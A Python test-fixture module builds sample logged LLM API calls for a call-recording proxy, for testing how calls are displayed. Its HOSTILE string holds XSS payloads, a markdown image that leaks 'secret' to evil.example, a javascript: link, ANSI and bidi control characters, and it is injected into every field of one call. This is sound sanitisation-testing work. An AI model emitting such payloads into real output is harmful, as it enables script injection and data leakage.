"""Calls of every kind, with bodies, as the book holds them: for tests of how one call is shown."""

from decimal import Decimal
from typing import Any
from uuid import UUID

import orjson

from store.book import Entry, KeptBody
from store.call import Call, CallError, Cost, CostLine, Tokens
from tests.books import a_call

JSON_TYPE = (("content-type", "application/json"),)
EVENTS = (("content-type", "text/event-stream"),)
SENT = (*JSON_TYPE, ("user-agent", "OpenAI/Python 2.10.0"), ("x-tollbook-session", "s-1"))

HOSTILE = (
    '<script>alert(1)</script> <img src="https://evil.example/x.png" onerror="alert(2)"> '
    "![leak](https://evil.example/?q=secret) [click](javascript:alert(3)) \x1b[31mred\x1b[0m \u202etxet\u202c \x00 \x07"
)


def text_id(entry: Entry | Call) -> str:
    """The id as addresses have it."""
    return str(UUID(bytes=(entry.call if isinstance(entry, Entry) else entry).call_id))


def kept(body: object) -> KeptBody:
    """A body, whole."""
    return KeptBody(body if isinstance(body, bytes) else orjson.dumps(body))


def an_entry(asked: object, answered: object, *, sent: Any = SENT, given: Any = JSON_TYPE, **changes: Any) -> Entry:
    """A call with both bodies; their sizes are the call's unless told otherwise."""
    request, response = kept(asked), kept(answered)
    sizes = {"request_bytes": len(request.data), "response_bytes": len(response.data), "sent_bytes": len(response.data)}
    return Entry(a_call(**(sizes | changes)), sent, request, given, response)


def a_chat() -> Entry:
    """A chat with a system prompt, a picture, tools and their results, answered with a refusal and a tool call."""
    asked = {
        "model": "gpt-4o-mini",
        "temperature": 0.25,
        "messages": [
            {"role": "system", "content": "You are a clerk."},
            {"role": "user", "content": [
                {"type": "text", "text": "What is on this picture?"},
                {"type": "image_url", "image_url": {"url": "data:image/png;base64," + "A" * 400}},
            ]},
            {"role": "assistant", "tool_calls": [
                {"id": "call_1", "function": {"name": "look", "arguments": '{"closely":true}'}}
            ]},
            {"role": "tool", "tool_call_id": "call_1", "content": "a wheelbarrow"},
        ],
        "tools": [{"type": "function", "function": {
            "name": "look", "description": "Looks at it.", "parameters": {"type": "object"},
        }}],
    }  # fmt: skip
    answered = {"choices": [{"index": 0, "finish_reason": "stop", "message": {
        "role": "assistant", "reasoning_content": "It has one wheel.", "content": "A wheelbarrow.",
        "tool_calls": [{"id": "call_2", "function": {"name": "note", "arguments": '{"text":"seen"}'}}],
    }}]}  # fmt: skip
    return an_entry(
        asked, answered, user="ada", session="s-1", tags={"team": "shop"}, service_tier="default",
        tokens=Tokens("reported", input_uncached=60, cache_read=40, cache_write_5m=0, output_text=50, reasoning=20),
    )  # fmt: skip


def a_stream() -> Entry:
    """A streamed answer of Anthropic's: thinking, text and a tool call in pieces."""
    events: list[dict[str, Any]] = [
        {"type": "message_start", "message": {"id": "msg_1", "model": "claude-x", "content": []}},
        {"type": "content_block_start", "index": 0, "content_block": {"type": "thinking", "thinking": ""}},
        {"type": "content_block_delta", "index": 0, "delta": {"type": "thinking_delta", "thinking": "Count to "}},
        {"type": "content_block_delta", "index": 0, "delta": {"type": "thinking_delta", "thinking": "three."}},
        {"type": "content_block_start", "index": 1, "content_block": {"type": "text", "text": ""}},
        {"type": "content_block_delta", "index": 1, "delta": {"type": "text_delta", "text": "One, two, "}},
        {"type": "content_block_delta", "index": 1, "delta": {"type": "text_delta", "text": "three."}},
        {"type": "content_block_start", "index": 2, "content_block": {"type": "tool_use", "name": "ring", "input": {}}},
        {"type": "content_block_delta", "index": 2, "delta": {"type": "input_json_delta", "partial_json": '{"be'}},
        {"type": "content_block_delta", "index": 2, "delta": {"type": "input_json_delta", "partial_json": 'll":1}'}},
        {"type": "message_stop"},
    ]
    body = b"".join(b"event: %b\ndata: %b\n\n" % (event["type"].encode(), orjson.dumps(event)) for event in events)
    return an_entry(
        {"model": "claude-x", "max_tokens": 100, "stream": True, "system": "Count.", "messages": [
            {"role": "user", "content": "Count to three."}]},
        body, given=EVENTS, sent=(*JSON_TYPE, ("anthropic-version", "2023-06-01")), upstream="anthropic",
        dialect="anthropic", target="/v1/messages", stream=True, model="claude-x", requested_model="claude-x",
        anomalies=("no_usage", "brand_new"), tokens=Tokens("estimated", input_uncached=9, output_text=7),
        cost=Cost("estimated", 12_000, (CostLine("input", Decimal(9), Decimal("1.3333"), Decimal("0.0000119997")),),
                  "genai-prices", "anthropic/claude-x"), usage_micro=12_000,
    )  # fmt: skip


def an_embedding() -> Entry:
    """An embedding of one text."""
    return an_entry(
        {"model": "text-embedding-3-small", "input": "wheel", "dimensions": 8},
        {"data": [{"index": 0, "embedding": [0.125, -0.5, 0.25, 0, 1, 2, 3, 4]}]},
        type="embedding", target="/v1/embeddings", model="text-embedding-3-small",
        tokens=Tokens("reported", input_uncached=2), cost=Cost("unknown", missing="price:text-embedding-3-small"),
        usage_micro=None,
    )  # fmt: skip


def an_image() -> Entry:
    """An image made from a prompt."""
    lines = (
        CostLine("image", Decimal(1), Decimal("0.04"), Decimal("0.04"), per_unit=True),
        CostLine("input", Decimal(5), Decimal(2), Decimal("0.00001"), model="painter", entry="config: prices[7] */p*"),
    )
    return an_entry(
        {"model": "gpt-image-1", "prompt": "a wheelbarrow at dawn", "size": "1024x1024"},
        {"data": [{"b64_json": "A" * 4000}]}, type="image", target="/v1/images/generations", model="gpt-image-1",
        tokens=None, cost=Cost("priced", 40_010_000, lines, "config", "openai/gpt-image-1", "2026-01-01"),
        usage_micro=40_010_000,
    )  # fmt: skip


def an_error() -> Entry:
    """An upstream that answered 429."""
    said = {"error": {"message": "Rate limit reached for requests", "type": "requests", "code": "rate_limit_exceeded"}}
    return an_entry(
        {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "Hello"}]}, said, status=429, fault="client",
        error=CallError("requests", "rate_limit_exceeded", "Rate limit reached for requests"), tokens=None,
        cost=Cost("free", 0), usage_micro=0, finish_reason=None,
    )  # fmt: skip


def a_refusal() -> Entry:
    """A call that Tollbook itself refused, before any upstream."""
    return Entry(a_call(
        status=404, outcome="rejected", fault="client", upstream=None, dialect="generic", target="/opnai/v1/models",
        method="GET", type="other", model=None, requested_model=None, tokens=None, cost=Cost("free", 0), usage_micro=0,
        error=CallError("unknown_upstream", "unknown_upstream", "There is no upstream 'opnai'."), finish_reason=None,
        asked_us=None, answered_us=None, first_token_us=None, duration_us=300, overhead_us=300, request_bytes=0,
        response_bytes=0, sent_bytes=120, upstream_request_id=None, raw_usage=None,
    ), SENT)  # fmt: skip


def an_interruption() -> Entry:
    """A call that was under way when Tollbook died."""
    call = a_call(
        status=None, outcome="interrupted", fault="proxy", tokens=None, cost=Cost("unknown"), usage_micro=None,
        error=CallError("interrupted", "interrupted", "Tollbook stopped while the call ran."), duration_us=None,
        answered_us=None, first_token_us=None, response_bytes=0, sent_bytes=0, finish_reason=None, raw_usage=None,
    )  # fmt: skip
    return Entry(call, SENT, kept({"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "Still there?"}]}))


def a_hostile_call() -> Entry:
    """Every text of it tries to be something else than text."""
    asked = {"model": HOSTILE, HOSTILE: HOSTILE, "messages": [
        {"role": HOSTILE, "content": HOSTILE},
        {"role": "user", "content": [{"type": "image_url", "image_url": {"url": "https://evil.example/pixel.png"}}]},
        {"role": "user", "content": "x" * 1_000_000},
    ], "tools": [{"name": HOSTILE, "description": HOSTILE, "input_schema": {HOSTILE: HOSTILE}}]}  # fmt: skip
    answered = {"choices": [{"message": {"content": HOSTILE, "tool_calls": [
        {"function": {"name": HOSTILE, "arguments": HOSTILE}}]}}], "deep": "["}  # fmt: skip
    return an_entry(
        asked, answered, sent=(*JSON_TYPE, ("x-title", HOSTILE)), model=HOSTILE, requested_model=HOSTILE,
        user=HOSTILE, session=HOSTILE, tags={HOSTILE: HOSTILE}, user_agent=HOSTILE,
        target=f"/v1/chat/completions?{HOSTILE}",
        finish_reason=HOSTILE, upstream_request_id=HOSTILE, service_tier=HOSTILE, anomalies=(HOSTILE,),
        error=CallError(HOSTILE, HOSTILE, HOSTILE), key=HOSTILE, group=HOSTILE, client=HOSTILE,
        cost=Cost("unknown", entry=HOSTILE), usage_micro=None,
    )  # fmt: skip
